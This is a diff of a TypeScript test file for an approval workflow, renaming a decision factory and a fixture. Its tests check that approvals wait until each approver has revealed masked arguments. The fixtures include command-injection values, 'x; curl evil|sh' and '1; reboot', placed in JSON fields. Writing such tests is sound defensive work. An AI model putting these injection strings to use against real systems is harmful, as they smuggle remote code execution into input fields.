@@ -1,8 +1,8 @@
 import { expect, test } from "vitest";
-import { createDeciderSide, oddlyHidden, oddlyHiddenFrom } from "#approvals";
+import { createApprovalDecisions, oddlyHidden, oddlyHiddenFrom } from "#approvals";
 import type { Approval } from "#model";
 import { describeStores } from "../support/stores.ts";
-import { newScene, plainWorkflow, standing } from "./support.ts";
+import { newScene, plainWorkflow, preconditions } from "./support.ts";
 
 const PAYLOAD = `{"path":"/tmp/a","token":"x; curl evil|sh"}`;
 const two = { ...plainWorkflow, name: "production", quorum: 2 };
@@ -32,7 +32,7 @@ describeStores("a yes to what a mask hides and no secret looks like [S-63]", (op
     expect(await deciders.decideByLink(token, { id, verdict: "approve" })).toMatchObject({
       status: "approved",
     });
-    expect((await caller.begin(id, standing)).run).toBe(true);
+    expect((await caller.begin(id, preconditions)).run).toBe(true);
   });
 
   test("waits for each person's own reveal, and for another one after an edit", async () => {
@@ -41,7 +41,7 @@ describeStores("a yes to what a mask hides and no secret looks like [S-63]", (op
     const { id } = asked;
     const refused = expect.objectContaining({ code: "decision_refused" });
     const approve = (decider: string, args?: string) =>
-      createDeciderSide({ db }).decide({ id, decider, verdict: "approve", ...(args && { args }) });
+      createApprovalDecisions({ db }).decide({ id, decider, verdict: "approve", ...(args && { args }) });
     await deciders.revealed(asked, "ana");
     await expect(approve("bo")).rejects.toEqual(refused);
     await deciders.revealed(asked, "bo");
@@ -58,10 +58,10 @@ describeStores("a yes to what a mask hides and no secret looks like [S-63]", (op
   test("is refused for the names of the config too", async () => {
     const { db, ask } = newScene(await open());
     const { id } = await ask({ argsText: `{"ssn":"1; reboot"}` });
-    const deciders = createDeciderSide({ db, secretNames: ["ssn"] });
+    const deciders = createApprovalDecisions({ db, secretNames: ["ssn"] });
     const vote = { id, decider: "bo", verdict: "approve" } as const;
     await expect(deciders.decide(vote)).rejects.toMatchObject({ code: "decision_refused" });
-    expect(await createDeciderSide({ db }).decide(vote)).toMatchObject({ status: "approved" });
+    expect(await createApprovalDecisions({ db }).decide(vote)).toMatchObject({ status: "approved" });
   });
 
   test("is asked for nothing by an ordinary secret, and a no never is", async () => {
@@ -83,7 +83,7 @@ describeStores("a yes to what a mask hides and no secret looks like [S-63]", (op
     const asked = await ask({ argsText: PAYLOAD });
     expect(oddlyHiddenFrom("bo", asked, [])).toEqual(["blanks", "shell characters"]);
     await deciders.revealed(asked, "bo");
-    const [read] = (await createDeciderSide({ db }).list({ session: asked.session.id })) as [Approval];
+    const [read] = (await createApprovalDecisions({ db }).list({ session: asked.session.id })) as [Approval];
     expect(read.reveals).toEqual([{ person: "bo", argumentsDigest: asked.effectiveDigest }]);
     expect(oddlyHiddenFrom("bo", read, [])).toEqual([]);
     expect(oddlyHiddenFrom("ana", read, [])).not.toEqual([]);
